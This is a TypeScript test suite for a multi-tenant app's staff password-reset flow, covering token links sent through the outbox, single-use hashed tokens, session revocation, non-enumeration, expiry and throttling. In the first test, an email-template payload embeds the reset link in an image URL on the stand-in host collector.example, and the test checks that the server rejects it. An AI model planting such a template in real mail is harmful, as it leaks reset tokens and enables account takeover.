// Staff password reset over real HTTP: the link arrives through the practice's outbox (and its
// template), sets an Argon2id password once, kills the old sessions; unknown emails look the same
// from outside and send nothing; tokens are single-use and expire; requests are throttled.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomInt } from 'node:crypto';
import { startTestApp, PASSWORD, type TestApp, type TestTenant } from './support/harness.ts';
import { tenantRef } from './support/scheduling-fixtures.ts';
import { asPlatform, withTenant } from '../src/tenancy/tenant-db.ts';
import { RESET_ACCOUNT_LIMIT, RESET_ADDRESS_LIMIT } from '../src/identity/password-reset.ts';

let t: TestApp;
before(async () => {
  t = await startTestApp();
});
after(async () => {
  await t.close();
});

const NEW_PASSWORD = 'a-brand-new-passphrase';

/** A client address of its own per test, so the per-address throttle of one test never trips another. */
const newAddress = () => `10.${randomInt(256)}.${randomInt(256)}.${randomInt(1, 255)}`;

function ask(slug: string | null, email: string, address: string, extra: { body?: Record<string, unknown>; headers?: Record<string, string> } = {}) {
  return t.app.inject({
    method: 'POST',
    url: '/auth/password-reset',
    remoteAddress: address,
    headers: { ...(slug ? { 'x-tenant': slug } : {}), ...(extra.headers ?? {}) },
    payload: { email, ...(extra.body ?? {}) },
  });
}

const confirm = (token: string, password = NEW_PASSWORD) => t.app.inject({ method: 'POST', url: '/auth/password-reset/confirm', payload: { token, password } });
const login = (slug: string, email: string, password: string) => t.app.inject({ method: 'POST', url: '/auth/login', payload: { tenant: slug, email, password } });

/** The practice's kept password-reset emails, oldest first, read straight from its outbox. */
async function resetMails(tenant: TestTenant) {
  const ref = await tenantRef(t, tenant.slug);
  const res = await withTenant(t.services.db, ref, (tx) =>
    tx.query<{ to_address: string; subject: string; body_text: string; body_html: string | null; status: string }>(
      `select to_address, subject, body_text, body_html, status from email_outbox where tenant_id = $1 and template_kind = 'password_reset' order by created_at, id`,
      [tx.tenantId],
    ),
  );
  return res.rows;
}

const tokenOf = (text: string) => /#token=([A-Za-z0-9_-]{43})\b/.exec(text)?.[1];

async function linkFor(tenant: TestTenant, email: string): Promise<string> {
  const res = await ask(tenant.slug, email, newAddress());
  assert.equal(res.statusCode, 202, res.body);
  await t.services.jobs.runDue(new Date());
  const mails = await resetMails(tenant);
  const token = tokenOf(mails[mails.length - 1]!.body_text);
  assert.ok(token, 'the email carries a token link');
  return token;
}

test('the full flow: link by email, new password, old sessions dead, token single-use', async () => {
  const tenant = await t.createTenant('schema');
  // The practice cannot word this email: a template could route the link through its own server
  // (an image or a link wrapping {{ link.url }}) and take the account, which other practices may share.
  const saved = await t.api(tenant, tenant.adminToken, {
    method: 'PUT',
    url: '/api/templates/password_reset',
    payload: { subject: 'Reset for {{ user.name }}', bodyHtml: '<img src="https://collector.example/?{{ link.url | url_encode }}">', bodyText: 'CUSTOM {{ link.url }}' },
  });
  assert.equal(saved.statusCode, 400, saved.body);
  assert.equal(saved.json().errors[0].field, 'kind');

  const asked = await ask(tenant.slug, tenant.adminEmail.toUpperCase(), newAddress());
  assert.equal(asked.statusCode, 202, asked.body);
  assert.deepEqual(asked.json(), { status: 'accepted' });
  assert.equal((await resetMails(tenant)).length, 0, 'nothing is sent before the job runs');
  await t.services.jobs.runDue(new Date());
  await t.services.jobs.runDue(new Date()); // the delivery job the first run queued
  const mails = await resetMails(tenant);
  assert.equal(mails.length, 1);
  assert.equal(mails[0]!.to_address, tenant.adminEmail);
  assert.equal(mails[0]!.subject, `Reset your Practice ${tenant.slug} password`, 'rendered with the built-in template');
  assert.match(mails[0]!.body_text, /open this link:\n\nhttp\S+\/reset-password#token=\S+\n/);
  assert.doesNotMatch(mails[0]!.body_text, /CUSTOM/);
  // Whoever may read the practice's outbox sees that the email went, never the link in it.
  const listed = (await t.api(tenant, tenant.adminToken, { method: 'GET', url: '/api/outbox' })).json().items as { id: string; kind: string }[];
  const entry = listed.find((m) => m.kind === 'password_reset')!;
  const read = await t.api(tenant, tenant.adminToken, { method: 'GET', url: `/api/outbox/${entry.id}` });
  assert.equal(read.statusCode, 200, read.body);
  assert.equal(tokenOf(read.body), undefined, 'the outbox API does not give the token away');
  assert.doesNotMatch(read.body, /reset-password/);
  assert.equal(read.json().html, null);
  assert.equal(mails[0]!.status, 'kept', 'delivered into the outbox (no SMTP_URL)');
  const token = tokenOf(mails[0]!.body_text)!;
  const stored = await asPlatform(t.services.db, (tx) => tx.query('select 1 from password_resets where token_hash = $1', [token]));
  assert.equal(stored.rowCount, 0, 'the token itself is never stored, only its hash');

  const done = await confirm(token);
  assert.equal(done.statusCode, 204, done.body);
  const refreshed = await t.app.inject({ method: 'POST', url: '/auth/refresh', payload: { refreshToken: tenant.refreshToken } });
  assert.equal(refreshed.statusCode, 401, 'the old refresh token is dead');
  assert.equal((await login(tenant.slug, tenant.adminEmail, PASSWORD)).statusCode, 401);
  const fresh = await login(tenant.slug, tenant.adminEmail, NEW_PASSWORD);
  assert.equal(fresh.statusCode, 200, fresh.body);
  const hash = await asPlatform(t.services.db, (tx) => tx.query<{ password_hash: string }>('select password_hash from users where lower(email) = $1', [tenant.adminEmail]));
  assert.match(hash.rows[0]!.password_hash, /^\$argon2id\$/);

  const again = await confirm(token, 'yet-another-passphrase');
  assert.equal(again.statusCode, 409, again.body);
  assert.equal(again.json().code, 'reset_token_used');
  assert.equal((await login(tenant.slug, tenant.adminEmail, NEW_PASSWORD)).statusCode, 200, 'the reused token changed nothing');

  const audit = await t.api(tenant, fresh.json().accessToken, { method: 'GET', url: '/api/audit-events' });
  const actions = audit.json().items.map((e: { action: string }) => e.action);
  assert.ok(actions.includes('user.password_reset_requested') && actions.includes('user.password_reset'));
});

test('no enumeration: an unknown email, a non-member and an unknown practice get the same 202 and send nothing', async () => {
  const tenant = await t.createTenant();
  const other = await t.createTenant();
  const address = newAddress();
  const known = await ask(tenant.slug, tenant.adminEmail, address);
  const unknown = await ask(tenant.slug, 'nobody@nowhere.test', address);
  const nonMember = await ask(tenant.slug, other.adminEmail, address);
  const noPractice = await ask('no-such-practice', tenant.adminEmail, address);
  for (const res of [known, unknown, nonMember, noPractice]) {
    assert.equal(res.statusCode, 202, res.body);
    assert.equal(res.body, known.body);
  }
  await t.services.jobs.runDue(new Date());
  const mails = await resetMails(tenant);
  assert.deepEqual(mails.map((m) => m.to_address), [tenant.adminEmail], 'only the member was written to');
  assert.equal((await resetMails(other)).length, 0, "the other practice's member got nothing through this practice");
});

test('expired and unknown tokens are refused with their own codes; a newer link voids the older', async () => {
  const tenant = await t.createTenant();
  const first = await linkFor(tenant, tenant.adminEmail);
  const second = await linkFor(tenant, tenant.adminEmail);
  const voided = await confirm(first);
  assert.equal(voided.statusCode, 400);
  assert.equal(voided.json().code, 'reset_token_invalid');

  await asPlatform(t.services.db, (tx) => tx.query(`update password_resets set expires_at = now() - interval '1 second' where used_at is null and user_id = (select id from users where lower(email) = $1)`, [tenant.adminEmail]));
  const expired = await confirm(second);
  assert.equal(expired.statusCode, 410, expired.body);
  assert.equal(expired.json().code, 'reset_token_expired');
  assert.equal((await login(tenant.slug, tenant.adminEmail, PASSWORD)).statusCode, 200, 'the password is unchanged');

  const bogus = await confirm('x'.repeat(43));
  assert.equal(bogus.statusCode, 400);
  assert.equal(bogus.json().code, 'reset_token_invalid');

  const third = await linkFor(tenant, tenant.adminEmail);
  const weak = await confirm(third, 'short');
  assert.equal(weak.statusCode, 400);
  assert.equal(weak.json().errors[0].field, 'password');
  assert.equal((await confirm(third)).statusCode, 204, 'a refused weak password did not spend the token');
});

test('the practice must be named, consistently', async () => {
  const tenant = await t.createTenant();
  const address = newAddress();
  const none = await ask(null, tenant.adminEmail, address);
  assert.equal(none.statusCode, 400);
  assert.equal(none.json().code, 'tenant_required');
  const mismatch = await ask(tenant.slug, tenant.adminEmail, address, { body: { tenant: 'someone-else' } });
  assert.equal(mismatch.statusCode, 400);
  assert.equal(mismatch.json().code, 'tenant_mismatch');
  const inBody = await ask(null, tenant.adminEmail, address, { body: { tenant: tenant.slug } });
  assert.equal(inBody.statusCode, 202);
  await t.services.jobs.runDue(new Date());
  assert.equal((await resetMails(tenant)).length, 1);
  const badEmail = await ask(tenant.slug, 'not-an-email', address);
  assert.equal(badEmail.statusCode, 400);
  assert.equal(badEmail.json().errors[0].field, 'email');
});

test('throttled: a few emails per account, then silence; too many requests from one address are 429', async () => {
  const tenant = await t.createTenant();
  for (let i = 0; i < RESET_ACCOUNT_LIMIT + 2; i++) {
    const res = await ask(tenant.slug, tenant.adminEmail, newAddress());
    assert.equal(res.statusCode, 202, 'still 202: the limit is never visible per account');
  }
  await t.services.jobs.runDue(new Date());
  assert.equal((await resetMails(tenant)).length, RESET_ACCOUNT_LIMIT);

  const address = newAddress();
  for (let i = 0; i < RESET_ADDRESS_LIMIT; i++) assert.equal((await ask(tenant.slug, `n${i}@nowhere.test`, address)).statusCode, 202);
  const limited = await ask(tenant.slug, 'one-more@nowhere.test', address);
  assert.equal(limited.statusCode, 429, limited.body);
  assert.equal(limited.json().code, 'rate_limited');
  assert.ok(Number(limited.headers['retry-after']) > 0);
});
